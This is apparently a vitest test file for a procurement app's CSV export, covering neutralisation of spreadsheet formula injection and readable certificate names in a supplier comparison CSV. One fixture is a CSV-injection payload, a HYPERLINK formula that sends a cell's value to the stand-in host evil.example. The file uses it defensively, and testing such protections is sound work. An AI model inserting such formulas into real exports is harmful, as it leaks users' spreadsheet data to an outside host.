import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { neutraliseCell, toCsv } from "../../app/exports/csv";

describe("CSV export (OWASP CSV injection)", () => {
  it("prefixes every text cell that starts with = + - @, tab or carriage return with an apostrophe", () => {
    for (const start of ["=", "+", "-", "@", "\t", "\r"]) expect(neutraliseCell(`${start}1+1`)).toBe(`'${start}1+1`);
    for (const safe of ["PT TPR Indonesia", "1+1", "a=b", "", " =x", "'=x"]) expect(neutraliseCell(safe)).toBe(safe);
  });

  it("keeps numbers as numbers (a negative amount is not text) and round-trips through a CSV parser", () => {
    const csv = toCsv([
      ["name", "amount"],
      ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', -5],
      ["@SUM(A1:A2)", 1250000],
      ["CV Cor Logam, Ceper", 0],
    ]);
    const rows = parse(csv) as string[][];
    expect(rows).toEqual([
      ["name", "amount"],
      ['\'=HYPERLINK("http://evil.example/?x="&A1,"klik")', "-5"],
      ["'@SUM(A1:A2)", "1250000"],
      ["CV Cor Logam, Ceper", "0"],
    ]);
  });
});

describe("comparison CSV (issue 13 #8)", () => {
  it("names the valid certificates in the buyer's language instead of their codes", async () => {
    const { comparisonCsv } = await import("../../app/domain/rfqs/comparison.server");
    const comparison = {
      lines: [{ id: 1, position: 1, part_name: "Cylinder sleeve", part_number: "CS-1", quantity: 200 }],
      bids: [
        {
          supplier: { legalName: "CV Cor Logam Ceper" },
          cells: { 1: { quantity: 200, unitPrice: 92_000, amount: 18_400_000, lowest: true, awarded: 0 } },
          leadTimeDays: 21,
          tkdnPercent: 60,
          validCertificates: ["iso9001", "sni"],
          total: 18_400_000,
          coverage: { percent: 100, wholeNeedAmount: 18_400_000 },
          outdated: false,
        },
      ],
    } as unknown as Parameters<typeof comparisonCsv>[0];
    const names: Record<string, string> = { iso9001: "ISO 9001 (manajemen mutu)", sni: "SNI" };
    const rows = parse(comparisonCsv(comparison, {}, (code) => names[code] ?? code)) as string[][];
    expect(rows[1]).toContain("ISO 9001 (manajemen mutu); SNI");
    expect(rows[1]!.join(",")).not.toMatch(/\biso9001\b/);
  });
});
